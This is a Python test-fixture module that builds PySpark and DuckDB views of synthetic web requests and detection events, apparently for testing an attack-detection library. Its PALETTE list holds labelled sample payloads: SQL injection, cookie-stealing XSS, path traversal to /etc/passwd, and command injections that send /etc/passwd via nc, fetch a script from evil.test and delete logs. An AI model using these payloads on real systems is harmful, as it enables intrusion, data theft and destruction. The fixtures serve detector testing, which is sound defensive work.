"""Deterministic views that give the test tables the shapes of this library's entities.

Each view exists twice, as DataFrame and as DuckDB SQL (a WITH clause), so that
every query can be compared with an oracle.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

#: Payloads of our own making, one or two per attack class, by number.
PALETTE = [
    ("benign", "page=2&sort=name"),
    ("sqli", "id=1' UNION SELECT user, pass FROM users -- "),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("path_traversal", "../../../etc/passwd"),
    ("cmdi", "; cat /etc/passwd | nc 10.0.0.1 4444"),
    ("sqli", "1 OR 1=1; DROP TABLE accounts /* x */"),
    ("xss", "<img src=x onerror=confirm(1)> javascript:alert(1)"),
    ("path_traversal", "..\\..\\boot.ini.bak"),
    ("cmdi", "$(whoami) && curl http://evil.test/a.sh >> /tmp/a; rm -rf /var/log"),
    ("benign", "plain words without any marker"),
    ("benign", '{"a": 1, "b": "two"}'),
]


def load(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def detections(spark: SparkSession, sf_dir: str) -> DataFrame:
    """`events` as detection events."""
    e = load(spark, sf_dir, "events")
    k = lambda n: F.col("event_id") % n
    pick = lambda key, *values: F.element_at(F.array(*[F.lit(v) for v in values]), (key + 1).cast("int"))
    return e.select(
        "event_id",
        F.unix_millis(F.col("ts").cast("timestamp")).alias("timestamp"),
        pick(k(3), "GET", "POST", "PUT").alias("method"),
        F.concat(F.lit("/api/r"), (F.col("user_id") % 20).cast("string")).alias("path"),
        F.concat(F.lit("id="), (F.col("event_id") % 97).cast("string")).alias("query_string"),
        pick(k(4), "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101", "curl/8.1", "", "sqlmap/1.7").alias("user_agent"),
        F.when(k(13) == 0, "").otherwise(F.concat(F.lit("10."), (F.col("user_id") % 3).cast("string"), F.lit("."), (F.col("user_id") % 7).cast("string"), F.lit("."), (F.col("user_id") % 50).cast("string"))).alias("client_ip"),
        pick(k(7), "block", "pass", "pass_anomaly", "pass", "block", "timeout", "pass").alias("verdict"),
        pick(k(5), "benign", "cmdi", "path_traversal", "sqli", "xss").alias("predicted_class"),
        ((F.col("event_id") % 101) / 100).alias("confidence"),
        ((F.col("event_id") % 37) / 1000).alias("if_score"),
        F.col("value").alias("elapsed_ms"),
    )


DETECTIONS = """detections AS (SELECT event_id, epoch_us(ts) // 1000 AS timestamp, (['GET','POST','PUT'])[event_id % 3 + 1] AS method,
  '/api/r' || (user_id % 20) AS path, 'id=' || (event_id % 97) AS query_string,
  (['Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101','curl/8.1','','sqlmap/1.7'])[event_id % 4 + 1] AS user_agent,
  CASE WHEN event_id % 13 = 0 THEN '' ELSE '10.' || (user_id % 3) || '.' || (user_id % 7) || '.' || (user_id % 50) END AS client_ip,
  (['block','pass','pass_anomaly','pass','block','timeout','pass'])[event_id % 7 + 1] AS verdict,
  (['benign','cmdi','path_traversal','sqli','xss'])[event_id % 5 + 1] AS predicted_class,
  (event_id % 101) / 100 AS confidence, (event_id % 37) / 1000 AS if_score, value AS elapsed_ms FROM events)"""


def log_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """`events` as access log lines."""
    e = load(spark, sf_dir, "events")
    status = F.when(F.col("event_id") % 11 == 0, 404).when(F.col("event_id") % 17 == 0, 403).otherwise(200)
    return e.select("event_id", F.col("ts").cast("timestamp").alias("ts"), F.concat(F.lit("u"), (F.col("user_id") % 40).cast("string")).alias("client_ip"), F.col("event_type").alias("path"), status.alias("status_code"))


LOG_LINES = "log_lines AS (SELECT event_id, ts, 'u' || (user_id % 40) AS client_ip, event_type AS path, CASE WHEN event_id % 11 = 0 THEN 404 WHEN event_id % 17 = 0 THEN 403 ELSE 200 END AS status_code FROM events)"


def requests(spark: SparkSession, sf_dir: str) -> DataFrame:
    """`documents` with payloads as requests: the text is the body of every third one."""
    d = load(spark, sf_dir, "documents")
    n = len(PALETTE)
    payload = F.element_at(F.array(*[F.lit(p) for _, p in PALETTE]), (F.col("doc_id") % n + 1).cast("int"))
    label = F.element_at(F.array(*[F.lit(c) for c, _ in PALETTE]), (F.col("doc_id") % n + 1).cast("int"))
    return d.select(
        "doc_id", F.when(F.col("doc_id") % 3 == 0, "POST").otherwise("get").alias("method"), F.concat(F.lit("/shop/item/"), F.col("doc_id").cast("string")).alias("path"),
        payload.alias("query"), F.when(F.col("doc_id") % 3 == 0, F.col("text")).alias("body"),
        F.when(F.col("doc_id") % 5 == 0, "sqlmap/1.7").when(F.col("doc_id") % 5 != 1, "Mozilla/5.0").alias("user_agent"),
        F.when(F.col("doc_id") % 3 == 0, "application/x-www-form-urlencoded").otherwise("text/html").alias("content_type"),
        F.create_map(F.lit("authorization"), F.lit("Bearer abc"), F.lit("X-Trace"), F.col("lang")).alias("extra_headers"),
        F.lit(200).alias("status_code"), label.alias("label"), F.col("source").alias("_source"), "lang",
    )


def _literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


REQUESTS = f"""requests AS (SELECT doc_id, CASE WHEN doc_id % 3 = 0 THEN 'POST' ELSE 'get' END AS method, '/shop/item/' || doc_id AS path,
  ([{", ".join(_literal(p) for _, p in PALETTE)}])[doc_id % {len(PALETTE)} + 1] AS query, CASE WHEN doc_id % 3 = 0 THEN text END AS body,
  CASE WHEN doc_id % 5 = 0 THEN 'sqlmap/1.7' WHEN doc_id % 5 <> 1 THEN 'Mozilla/5.0' END AS user_agent,
  CASE WHEN doc_id % 3 = 0 THEN 'application/x-www-form-urlencoded' ELSE 'text/html' END AS content_type,
  200 AS status_code, ([{", ".join(_literal(c) for c, _ in PALETTE)}])[doc_id % {len(PALETTE)} + 1] AS label, source AS _source, lang FROM documents)"""


def forms(spark: SparkSession, sf_dir: str) -> DataFrame:
    """`requests` without a query, and with a form of three fields as body."""
    body = F.concat(F.lit("name=u"), F.col("doc_id").cast("string"), F.lit("&note="), F.col("query"), F.lit("&text="), F.coalesce("body", F.lit("")))
    return requests(spark, sf_dir).withColumn("body", body).withColumn("query", F.lit(""))


FORMS = REQUESTS.replace("requests AS", "plain_requests AS", 1) + """, requests AS (SELECT * REPLACE ('' AS query, 'name=u' || doc_id || '&note=' || query || '&text=' || coalesce(body, '') AS body) FROM plain_requests)"""
